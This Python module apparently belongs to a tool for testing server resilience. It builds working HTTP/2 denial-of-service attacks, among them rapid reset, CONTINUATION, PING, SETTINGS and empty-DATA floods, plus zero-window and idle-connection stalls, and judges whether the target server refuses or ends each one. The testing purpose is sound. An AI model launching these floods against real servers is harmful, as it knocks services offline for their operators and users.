"""Attacks by HTTP/2 frames, most of them with a CVE of some server: floods, streams that are never finished,
answers that are never taken, and connections that only seem to live."""

import itertools
import struct

from connections import Conn
from limits import BODY_LIMIT, HEAD_LIMIT, IDLE_LIMIT, MAX_HEAD, MAX_HEADERS, MAX_SWALLOWED, STALL_LIMIT
from registry import Shot, attack, h2, h2_wide, refused, repeat
from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GET_BLOCK, H2, HEADERS, PING, PRIORITY, RST, WINDOW,
                  frame, h2_get, hpack, request_block, settings)


def streams(count, of):
    """`of(stream)` for `count` streams, in pieces of some ten KiB."""
    for first in range(0, count, 200):
        yield b"".join(of(2 * number + 1) for number in range(first, min(first + 200, count)))


@attack("h2 rapid reset", "tls", 10, 3, must_end=False, floor=10)
def rapid_reset(address, n, scale):
    """CVE-2023-44487: a reset stream no longer counts, but its work may go on."""
    each = max(1, int(100_000 * scale / n))
    both = lambda stream: h2_get(stream) + frame(RST, 0, stream, struct.pack(">I", 8))
    return Shot([h2(address, streams(each, both)) for _ in range(n)], f"{each} streams each")


@attack("h2 PRIORITY flood", "tls", 4, 2, must_end=False, floor=2)
def priority_flood(address, n, scale):
    """Each may make the server keep a node of a tree for a stream that does not exist."""
    of = lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15))
    return Shot([h2(address, streams(int(200_000 * scale), of)) for _ in range(n)], f"{int(200_000 * scale)} each")


@attack("h2 WINDOW_UPDATE flood", "tls", 4, 2, must_end=False, floor=2)
def window_flood(address, n, scale):
    """Each wakes whatever waits to be sent. For the connection, and for one open stream."""
    one = struct.pack(">I", 1)
    chunk = (frame(WINDOW, 0, 0, one) + frame(WINDOW, 0, 1, one)) * 500
    count = int(200_000 * scale)
    return Shot([h2(address, frame(HEADERS, END_HEADERS, 1, request_block("POST", "/api/v1/messages")),
                    repeat(chunk, 13 * count)) for _ in range(n)], f"{count} each")


@attack("h2 empty DATA flood", "tls", 4, 2, must_end=False, floor=2)
def empty_data(address, n, scale):
    """CVE-2019-9518: costs no window, so flow control does not slow it down. Also behind a finished stream."""
    count = int(200_000 * scale)
    return Shot([h2(address, frame(HEADERS, END_HEADERS, 1, request_block("POST", "/api/v1/messages")),
                    repeat(frame(DATA, 0, 1) * 1000, 9 * count)) for _ in range(n)], f"{count} each")


@attack("h2 CONTINUATION flood", "tls", 6, HEAD_LIMIT, floor=3)
def continuation_flood(address, n, _scale):
    """CVE-2024-27316 and kin: headers without END_HEADERS are collected until the block ends, and it never does.
    Large, tiny and empty frames, since limits on bytes do not see the last."""
    field = hpack(("x-a", "a" * 90))
    sizes = itertools.cycle((frame(CONTINUATION, 0, 1, field * 160),
                             frame(CONTINUATION, 0, 1, hpack(("a", "b"))) * 1000,
                             frame(CONTINUATION, 0, 1) * 1500))
    # No acknowledgements: one between HEADERS and CONTINUATION would be an error of ours, and end the connection
    # for that.
    return Shot([h2(address, frame(HEADERS, END_STREAM, 1, GET_BLOCK), repeat(next(sizes), 4 * MAX_SWALLOWED),
                    seen=H2(acks=False)) for _ in range(n)], "until the server ends it", refused)


@attack("h2 header list over limit", "tls", 8, 2, must_end=False, floor=4)
def header_list(address, n, _scale):
    """A complete header block of 48 KiB, 256 KiB, 1 MiB (and 65 fields, which is only reported): decoded it is far
    larger than the frames if a table is used, so what counts is the list."""
    def sends(size, count):
        block = GET_BLOCK + hpack(*[(f"x-{i}", "a" * (size // count)) for i in range(count)])
        pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        for number, piece in enumerate(pieces):
            last = END_HEADERS if number == len(pieces) - 1 else 0
            yield frame(CONTINUATION, last, 1, piece) if number else frame(HEADERS, last | END_STREAM, 1, piece)
    shapes = ((48 << 10, 48), (256 << 10, 60), (1 << 20, 60), (650, MAX_HEADERS + 1))
    conns = [(shape, h2(address, sends(*shape), seen=H2(acks=False)))
             for shape, _ in zip(itertools.cycle(shapes), range(n))]

    def judge(_):
        for (size, count), conn in conns:
            shot.detail.append({"bytes": size, "fields": count, "statuses": dict(conn.seen.statuses),
                                "resets": dict(conn.seen.resets), "goaway": conn.seen.goaway, "end": conn.how})
        return refused([conn for (size, _), conn in conns if size > MAX_HEAD])

    shot = Shot([conn for _, conn in conns], "48 KiB to 1 MiB", judge)
    return shot


@attack("h2 too many streams", "tls", 4, 2, must_end=False, floor=2)
def too_many_streams(address, n, _scale):
    """Streams above what the server announced must be refused. A window of 0 keeps those open which it took."""
    opened = 1000

    def judge(conns):
        problems = []
        for conn in conns:
            seen = conn.seen
            over = sum(seen.resets.values())
            shot.detail.append({"announced": seen.max_streams, "opened": opened, "resets": dict(seen.resets),
                                "statuses": dict(seen.statuses), "goaway": seen.goaway, "end": conn.how})
            if seen.max_streams is None:
                problems.append("no SETTINGS_MAX_CONCURRENT_STREAMS announced")
            elif conn.how == "by us" and over < opened - seen.max_streams and seen.goaway is None:
                problems.append(f"announced {seen.max_streams}, of {opened} only {over} refused")
        return sorted(set(problems))

    # After a pause: before it has our acknowledgement a server may be lenient.
    shot = Shot([h2(address, 0.3, streams(opened, h2_get), opening=settings(initial_window=0)) for _ in range(n)],
                f"{opened} streams each", judge)
    return shot


@attack("h2 zero window", "tls", 20, STALL_LIMIT, slow=True, floor=4)
def zero_window(address, n, _scale):
    """The connection itself flows, so a timer on the socket sees nothing stall; 100 answers wait on each.
    Every second one even answers pings."""
    return Shot([h2(address, streams(100, h2_get), opening=settings(initial_window=0), seen=H2(acks=number % 2 == 0))
                 for number in range(n)], "100 streams each, window 0")


@attack("h2 reads nothing", "tls", 10, STALL_LIMIT, slow=True, floor=2)
def h2_reads_nothing(address, n, _scale):
    """Large windows, so that all answers may be sent, and no read from the socket."""
    return Shot([h2_wide(address, streams(200, h2_get), read=False, tight=True, since="progress") for _ in range(n)],
                "200 streams each, no read")


def unread_flood(address, n, scale, one):
    count = max(100_000, int(400_000 * scale))
    return Shot([h2(address, repeat(one * 1000, len(one) * count), read=False, tight=True, since="progress")
                 for _ in range(n)], f"{count} each, no read")


@attack("h2 SETTINGS flood", "tls", 4, STALL_LIMIT, slow=True, floor=2)
def settings_flood(address, n, scale):
    """CVE-2019-9515: each asks for an acknowledgement, which nobody reads: they must not queue up."""
    return unread_flood(address, n, scale, settings(initial_window=65535))


@attack("h2 PING flood", "tls", 4, STALL_LIMIT, slow=True, floor=2)
def ping_flood(address, n, scale):
    """CVE-2019-9512: the same with pings."""
    return unread_flood(address, n, scale, frame(PING, 0, 0, b"attacked"))


@attack("h2 no preface", "tls", 5, IDLE_LIMIT, slow=True)
def h2_no_preface(address, n, _scale):
    """ALPN says h2 and then nothing comes, so neither protocol's own timer may have been started."""
    return Shot([Conn(address, tls="h2") for _ in range(n)], "handshake")


@attack("h2 preface, silence", "tls", 5, IDLE_LIMIT, slow=True)
def h2_preface(address, n, _scale):
    """HTTP/2 has no timer on a request's head; something else must end a connection without one."""
    return Shot([h2(address, seen=H2(acks=False)) for _ in range(n)], "preface")


@attack("h2 half a frame", "tls", 5, IDLE_LIMIT, slow=True)
def h2_half_frame(address, n, _scale):
    """HEADERS of 16384 bytes of which 100 come."""
    start = frame(HEADERS, END_HEADERS, 1, GET_BLOCK + b"\0" * (16384 - len(GET_BLOCK)))[:109]
    return Shot([h2(address, start, seen=H2(acks=False)) for _ in range(n)], "preface, 100 of 16384 bytes")


@attack("h2 headers, no body", "tls", 10, BODY_LIMIT, slow=True)
def h2_absent_body(address, n, _scale):
    """A POST without END_STREAM: an open stream, which may count as not idle."""
    block = request_block("POST", "/api/v1/messages", ("content-length", "1000000"))
    return Shot([h2(address, frame(HEADERS, END_HEADERS, 1, block)) for _ in range(n)], "POST without its body")


@attack("h2 idle, answers pings", "tls", 6, IDLE_LIMIT, slow=True, floor=2)
def h2_idle(address, n, _scale):
    """A living client that never asks anything takes a place all the same. Some send pings of their own."""
    own = lambda: itertools.chain.from_iterable((frame(PING, 0, 0, b"stillon!"), 1.0) for _ in range(600))
    return Shot([h2(address, *([own()] if number % 2 else [])) for number in range(n)], "acks; half send PING 1/s")


@attack("h2 idle after a request", "tls", 5, IDLE_LIMIT, slow=True)
def h2_idle_after(address, n, _scale):
    """One good request, then nothing but acknowledgements."""
    return Shot([h2_wide(address, h2_get(1)) for _ in range(n)], "one GET")
